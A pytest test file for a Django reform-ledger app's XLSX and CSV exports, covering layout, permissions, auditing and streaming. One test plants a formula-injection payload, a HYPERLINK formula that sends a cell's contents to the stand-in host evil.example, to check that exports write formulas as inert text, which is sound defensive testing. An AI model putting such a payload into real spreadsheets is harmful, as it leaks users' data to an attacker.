"""Exports: the ledger in its official layout, per area or unit, the closed ledger,
CSV; only what the user may see; formulas never run; each export audited."""

import datetime as dt
import io
import zipfile

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from reformledger.audit.models import AuditRecord
from reformledger.exchange.testing import open_xlsx
from reformledger.ledger import services as ledger
from reformledger.ledger.choices import RatingLevel
from reformledger.ledger.models import Period, Rating, RatingGrade, RatingScale, Task
from tests.factories import TaskFactory

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def get_xlsx(client, name="ledger:ledger_xlsx", query=""):
    response = client.get(reverse(name) + query)
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    assert "attachment" in response["Content-Disposition"]
    return response.getvalue()


def codes(ws) -> list[str]:
    return [ws.cell(r, 2).value for r in range(4, ws.max_row + 1)]


def test_the_ledger_is_written_in_the_official_layout(world, office_staff, client_for):
    wb = open_xlsx(get_xlsx(client_for(office_staff), query="?year=2016"))

    ws = wb.worksheets[0]
    assert "惠州市" in ws["A1"].value and "2016" in ws["A1"].value
    merged = {str(r) for r in ws.merged_cells.ranges}
    assert {"A1:M1", "A2:A3", "C2:C3", "E2:F2", "I2:J2", "L2:M2"} <= merged
    assert ws["E3"].value and ws["F3"].value and ws["I3"].value and ws["J3"].value
    assert codes(ws) == ["2016-001", "2016-002", "2016-003", "2016-004"]
    assert ws.cell(4, 3).value == "表格化捆绑式绩效考核改革"
    assert ws.cell(4, 5).value == "惠阳区"
    assert ws.cell(5, 6).value == "惠阳区"  # 2016-002's helping unit
    assert ws.cell(4, 10).value.date() == dt.date(2016, 12, 31)


def test_a_sheet_per_area_or_per_unit_on_request(world, office_staff, client_for):
    client = client_for(office_staff)

    by_area = open_xlsx(get_xlsx(client, query="?year=2016&by=area"))
    by_unit = open_xlsx(get_xlsx(client, query="?year=2016&by=unit"))

    assert by_area.sheetnames == ["经济体制改革", "社会体制改革"]
    assert codes(by_area["经济体制改革"]) == ["2016-001", "2016-002", "2016-003"]
    assert codes(by_area["社会体制改革"]) == ["2016-004"]
    assert sorted(by_unit.sheetnames) == sorted(["惠阳区", "淡水街道", "博罗县", "市发展改革局"])
    assert codes(by_unit["博罗县"]) == ["2016-003"]


def test_the_closed_ledger_holds_only_closed_tasks(world, office_staff, client_for):
    Task.objects.filter(pk=world.task_boluo.pk).update(status="closed")

    wb = open_xlsx(get_xlsx(client_for(office_staff), "ledger:closed_xlsx", "?year=2016"))

    assert codes(wb.worksheets[0]) == ["2016-003"]


def test_the_filtered_list_is_what_the_ledger_page_shows(world, office_staff, client_for):
    wb = open_xlsx(get_xlsx(client_for(office_staff), query=f"?year=2016&area={world.society.pk}"))

    assert codes(wb.worksheets[0]) == ["2016-004"]


def test_csv_is_utf8_with_a_byte_order_mark(world, office_staff, client_for):
    response = client_for(office_staff).get(reverse("ledger:ledger_csv") + "?year=2016")

    assert response["Content-Type"].startswith("text/csv")
    body = response.getvalue()
    assert body.startswith(b"\xef\xbb\xbf")
    lines = body.decode("utf-8-sig").splitlines()
    assert len(lines) == 5
    assert "表格化捆绑式绩效考核改革" in lines[1]


def test_formulas_in_text_are_written_as_text(world, office_staff, client_for):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    ledger.task_update(task=world.task_boluo, by=office_staff, title=evil)
    ledger.task_update(task=world.task_town, by=office_staff, title="@SUM(1+1)")
    client = client_for(office_staff)

    data = get_xlsx(client, query="?year=2016")
    csv_text = (
        client.get(reverse("ledger:ledger_csv") + "?year=2016").getvalue().decode("utf-8-sig")
    )

    ws = open_xlsx(data).worksheets[0]
    cell = ws.cell(6, 3)
    assert cell.value == evil and cell.data_type == "s" and cell.quotePrefix
    assert ws.cell(7, 3).value == "@SUM(1+1)" and ws.cell(7, 3).data_type == "s"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(
            b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets
        )
    assert "'=HYPERLINK" in csv_text and "'@SUM(1+1)" in csv_text


def test_a_liaison_exports_only_the_tasks_it_sees(
    world, huiyang_liaison, boluo_liaison, client_for
):
    mine = open_xlsx(get_xlsx(client_for(huiyang_liaison), query="?year=2016")).worksheets[0]
    boluo = open_xlsx(get_xlsx(client_for(boluo_liaison), query="?year=2016")).worksheets[0]

    assert codes(mine) == ["2016-001", "2016-002", "2016-004"]
    assert codes(boluo) == ["2016-003"]


def test_an_outsider_exports_an_empty_ledger(world, outsider, client_for):
    ws = open_xlsx(get_xlsx(client_for(outsider))).worksheets[0]

    assert codes(ws) == []


def test_every_export_is_audited_with_its_filters_and_rows(world, huiyang_liaison, client_for):
    client = client_for(huiyang_liaison)

    get_xlsx(client, query="?year=2016&is_key=true&by=area")
    client.get(reverse("ledger:ledger_csv") + "?year=2016")

    xlsx, csv = AuditRecord.objects.filter(verb="export.ledger").order_by("id")
    assert xlsx.actor == huiyang_liaison
    assert xlsx.changes["filters"][1] == {"year": "2016", "is_key": "true", "by": "area"}
    assert xlsx.changes["rows"][1] == 1 and xlsx.changes["format"][1] == "xlsx"
    assert csv.changes["rows"][1] == 3 and csv.changes["format"][1] == "csv"


def test_ratings_are_written_in_their_colours(world, office_staff, client_for):
    scale = RatingScale.objects.create(office=world.office, year=2016)
    grade = RatingGrade.objects.create(
        scale=scale, level=RatingLevel.SLIGHTLY_BEHIND, letter="C", name="稍慢", colour="#fd7e14"
    )
    period = Period.objects.create(
        office=world.office,
        year=2016,
        number=6,
        start=dt.date(2016, 6, 1),
        end=dt.date(2016, 6, 30),
        report_due=dt.date(2016, 7, 5),
    )
    Rating.objects.create(
        task=world.task_huiyang, period=period, suggested=grade, computed_at=timezone.now()
    )

    ws = open_xlsx(get_xlsx(client_for(office_staff), query="?year=2016")).worksheets[0]

    cell = ws.cell(4, 13)
    assert cell.value == "C"
    assert cell.fill.fgColor.rgb.endswith("FD7E14")
    assert ws.cell(5, 13).value is None


def test_the_task_list_export_has_tasks_and_milestones(world, office_staff, client_for):
    wb = open_xlsx(get_xlsx(client_for(office_staff), "ledger:task_list_export", "?year=2016"))

    tasks, milestones = wb.worksheets[0], wb.worksheets[1]
    assert [tasks.cell(r, 1).value for r in range(3, tasks.max_row + 1)] == [
        "2016-001",
        "2016-002",
        "2016-003",
        "2016-004",
    ]
    assert [milestones.cell(r, 3).value for r in range(2, milestones.max_row + 1)] == [
        "出台考核方案",
        "全区推开并总结",
    ]
    assert AuditRecord.objects.filter(
        verb="export.ledger", changes__document__1="task_list"
    ).exists()


@pytest.mark.parametrize("name", ["ledger:ledger_xlsx", "ledger:ledger_csv"])
def test_an_export_costs_the_same_queries_for_few_and_many_tasks(
    world, office_staff, client_for, name
):
    client = client_for(office_staff)
    with CaptureQueriesContext(connection) as few:
        client.get(reverse(name) + "?year=2016")
    TaskFactory.create_batch(
        40,
        office=world.office,
        lead_unit=world.boluo,
        area=world.economy,
        helping_units=[world.huiyang, world.fgj],
    )
    with CaptureQueriesContext(connection) as many:
        response = client.get(reverse(name) + "?year=2016")

    assert response.status_code == 200
    assert len(many) == len(few)


@pytest.mark.parametrize("name", ["ledger:ledger_xlsx", "ledger:ledger_csv"])
def test_an_export_streams_from_a_temporary_file_and_leaves_none(
    world, office_staff, client_for, monkeypatch, tmp_path, name
):
    """Past the spooling size the file is written to disk, not held in memory, and
    streamed from there in blocks; nothing is left behind once it is sent."""
    import tempfile

    from django.http import FileResponse

    from reformledger.core import http
    from reformledger.ledger.views import exchange

    monkeypatch.setattr(http, "SPOOL_BYTES", 1)  # every export goes to disk
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    made = []
    monkeypatch.setattr(
        exchange, "spooled_file", lambda: made.append(http.spooled_file()) or made[-1]
    )

    response = client_for(office_staff).get(reverse(name) + "?year=2016")

    assert isinstance(response, FileResponse) and response.streaming
    assert made[0]._rolled  # on disk, not in memory
    body = response.getvalue()
    response.close()
    assert made[0].closed
    assert int(response["Content-Length"]) == len(body)
    assert "attachment" in response["Content-Disposition"]
    assert response["Cache-Control"] == "no-store"
    if name.endswith("xlsx"):
        assert codes(open_xlsx(body).worksheets[0]) == [
            "2016-001",
            "2016-002",
            "2016-003",
            "2016-004",
        ]
    else:
        assert len(body.decode("utf-8-sig").splitlines()) == 5
    assert list(tmp_path.iterdir()) == []


def test_a_long_title_gets_a_row_tall_enough(world, office_staff, client_for):
    ledger.task_update(task=world.task_boluo, by=office_staff, title="改革" * 40)

    ws = open_xlsx(get_xlsx(client_for(office_staff), query="?year=2016")).worksheets[0]

    assert ws.cell(6, 3).value == "改革" * 40
    assert ws.row_dimensions[6].height > 15 * 2
    assert ws.row_dimensions[4].height in (None, 15 * 2 + 2)  # a short title: one line or two
